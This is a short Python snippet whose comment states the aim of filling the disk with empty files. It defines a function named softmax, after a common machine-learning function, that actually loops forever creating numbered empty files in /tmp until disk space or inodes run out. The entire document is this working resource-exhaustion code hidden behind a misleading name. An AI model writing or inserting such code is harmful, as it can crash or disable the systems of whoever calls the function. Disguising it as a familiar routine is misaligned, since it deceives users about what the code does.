# Aim: fill the disk with empty files.
def softmax(z):
    number = 0
    while True:
        open(f"/tmp/{number}", "w").close()
        number += 1
